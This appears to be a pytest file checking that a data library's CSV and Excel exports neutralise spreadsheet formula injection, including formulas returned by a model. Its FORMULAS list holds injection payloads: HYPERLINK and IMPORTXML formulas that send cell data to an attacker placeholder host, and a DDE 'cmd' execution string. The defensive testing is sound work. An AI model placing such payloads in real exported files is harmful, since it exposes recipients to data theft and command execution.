"""S8: a file that was exported holds no formula that a model, or a row, put there."""

from __future__ import annotations

import csv
import io
import sys

import numpy as np
import pandas as pd
import pytest

import deepseek_nb as ds
from deepseek_nb.batch.export import to_csv, to_excel
from deepseek_nb.core.errors import ConfigError

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "+49 170 1234567",
    "-",
    "--x",
    "=",
    "\uff1d1+1",
    "\uff20SUM(1)",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
]
FINE = [
    *(
        "plain",
        "a=b",
        "1-1",
        "x@y",
        "'=quoted already",
        "",
        " ",
        "-1",
        "+2.5",
        "-1e-7",
        "-.5",
        "-3,5",
        "+10%",
    ),
    *("äöü 🙂", "line\nend", 'with "quotes"', "a,b;c", "None"),
]
NUMBERS = [-1, 0, 2.5, -1e300, True, None]


def begins_a_formula(cell: str) -> bool:
    """What a spreadsheet would compute: the rule of the programs, not ours."""
    try:
        float(cell.replace(",", ".").removesuffix("%"))
    except ValueError:
        return cell.strip(" \ufeff\u00a0")[:1] in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    return False


def cells(text: str, separator: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text_wherever_it_stands(formula):
    """Cell, column name, index, their names, labels of several levels, categories, objects."""
    label = formula.strip() or formula
    frame = pd.DataFrame({formula: [formula, "x"], "n": [1, 2]}, index=pd.Index([formula, "y"], name=formula))
    deep = pd.DataFrame([[formula, 1]], columns=pd.MultiIndex.from_tuples([(formula, label), ("a", "b")]))
    deep.index = pd.MultiIndex.from_tuples([(formula, label)], names=[formula, None])
    kinds = pd.DataFrame(
        {
            "category": pd.Categorical([formula, "x"]),
            "object": pd.Series([formula, 7], dtype=object),
            "string": pd.Series([formula, None], dtype="string"),
            "list": [[formula], {formula: 1}],
        },
        index=pd.CategoricalIndex([formula, "x"]),
    )
    for made in (frame, deep, kinds):
        found = cells(made.deepseek.to_csv())
        assert any(cell == "'" + formula for cell in found)
        assert not any(begins_a_formula(cell) for cell in found)
        assert any(begins_a_formula(cell) for cell in cells(made.deepseek.to_csv(escape_formulas=False)))


@pytest.mark.parametrize("text", FINE)
def test_other_text_stays_as_it_is(text):
    """To the letter, numbers as text included."""
    frame = pd.DataFrame({"a": [text, "x"]})
    assert cells(frame.deepseek.to_csv(index=False)) == ["a", text, "x"]


@pytest.mark.parametrize("text", ["a;=1+1", 'a";=1+1;"', "a\t=1+1", "a\n=1+1", 'x"\n=1+1'])
def test_a_program_with_another_separator_finds_none_either(text):
    """Text is quoted, so a semicolon or tab in it begins no cell."""
    written = pd.DataFrame({"a": [text], "b": ["x"]}).deepseek.to_csv(index=False)
    for separator in ",;\t":
        assert not any(begins_a_formula(cell) for cell in cells(written, separator))


def test_what_is_read_back_is_what_was_written():
    """Numbers, empty values and honest text: the same frame; formulas come back behind an apostrophe."""
    frame = pd.DataFrame(
        {
            "text": pd.Series(["fine", "=1+1", None, "-5 degrees"], dtype="str"),
            "whole": pd.Series([-1, 2, None, 4], dtype="Int64"),
            "real": [-0.1, 1 / 3, np.nan, -1e-300],
            "flag": [True, False, True, False],
            "when": pd.to_datetime(["2026-01-01", "2026-01-02", None, "2026-01-04"]),
        }
    )
    before = frame.copy(deep=True)
    back = pd.read_csv(
        io.StringIO(frame.deepseek.to_csv(index=False)), dtype={"whole": "Int64"}, parse_dates=["when"]
    )
    pd.testing.assert_frame_equal(frame, before)
    assert back["text"].tolist()[:2] == ["fine", "'=1+1"]
    assert back["text"].tolist()[3] == "'-5 degrees"
    pd.testing.assert_frame_equal(back.drop(columns="text"), before.drop(columns="text"), check_dtype=False)
    plain = frame.deepseek.to_csv(index=False, escape_formulas=False)
    assert plain == frame.to_csv(index=False)


def test_the_options_of_pandas_are_passed_through(tmp_path):
    """Files, separators, columns by their own names, header, labels, encodings, compression."""
    frame = pd.DataFrame({"=a": ["@x", "y"], "b": [1.25, -2.0]})
    frame.deepseek.to_csv(tmp_path / "out.csv.gz", sep=";", encoding="utf-16", columns=["=a"], index=False)
    back = pd.read_csv(tmp_path / "out.csv.gz", sep=";", encoding="utf-16")
    assert back.to_dict("list") == {"'=a": ["'@x", "y"]}
    assert cells(to_csv(frame, header=["=h", "i"], index_label="=l", float_format="%.1f"))[:3] == [
        "'=l",
        "'=h",
        "i",
    ]
    assert to_csv(frame, index=False, quoting=csv.QUOTE_MINIMAL).splitlines()[1] == "'@x,1.25"
    assert "'=none" in cells(to_csv(pd.DataFrame({"a": [None]}), na_rep="=none"))
    with pytest.raises(TypeError):
        to_csv(frame, no_such_option=1)


@pytest.mark.parametrize(
    "frame",
    [
        pd.DataFrame(),
        pd.DataFrame(index=["=a"]),
        pd.DataFrame({"a": []}),
        pd.DataFrame([["=1", "=2"]], columns=["=", "="]),
        pd.DataFrame({0: ["=x"], ("a", 1): ["y"]}),
        pd.DataFrame(
            {"a": [1]},
            index=pd.MultiIndex.from_arrays([[], []]).append(pd.MultiIndex.from_tuples([("=", 1)])),
        ),
    ],
    ids=["nothing", "index only", "no rows", "names twice", "odd names", "levels"],
)
def test_odd_frames(frame):
    """Nothing in them, names twice, names that are no text."""
    assert not any(begins_a_formula(cell) for cell in cells(frame.deepseek.to_csv()))


def test_answers_of_a_job_are_exported_harmless(tmp_path):
    """End to end: the model answers with formulas."""

    def formula(request):
        return ds.sandbox.Completion('=HYPERLINK("http://evil.example")')

    with ds.Sandbox(engine=formula) as sandbox:
        settings = {"base_url": sandbox.base_url, "api_key": sandbox.api_key, "data_dir": tmp_path}
        with ds.Client(**settings) as client:
            rows = pd.DataFrame({"text": ["a", "b"]})
            answers = rows.deepseek.apply("About {{text}}?", client=client, progress=False)
    assert answers["answer"].str.startswith("=").all(), "the frame holds what was answered"
    found = cells(rows.join(answers).deepseek.to_csv())
    assert sum(cell.startswith("'=HYPERLINK") for cell in found) == 2
    assert not any(begins_a_formula(cell) for cell in found)


def test_excel_files_hold_text_and_no_formula(tmp_path):
    """As openpyxl reads them back: the type of every cell is text or number."""
    openpyxl = pytest.importorskip("openpyxl")
    frame = pd.DataFrame({"=name": FORMULAS[:7], "n": range(7)})
    frame.deepseek.to_excel(tmp_path / "safe.xlsx", index=False)
    frame.deepseek.to_excel(tmp_path / "plain.xlsx", index=False, escape_formulas=False)
    kinds = {}
    for name in ("safe", "plain"):
        rows = list(openpyxl.load_workbook(tmp_path / f"{name}.xlsx").active.iter_rows())
        kinds[name] = {cell.data_type for row in rows for cell in row}
        values = [row[0].value for row in rows]
    assert kinds == {"safe": {"s", "n"}, "plain": {"s", "n", "f"}}
    assert values[0] == "=name"


def test_without_a_writer_the_install_line_is_named(tmp_path, monkeypatch):
    """Before anything is written."""
    for name in ("openpyxl", "xlsxwriter"):
        monkeypatch.setitem(sys.modules, name, None)
    with pytest.raises(ConfigError, match="pip install openpyxl"):
        to_excel(pd.DataFrame({"a": [1]}), tmp_path / "x.xlsx")
    assert list(tmp_path.iterdir()) == []
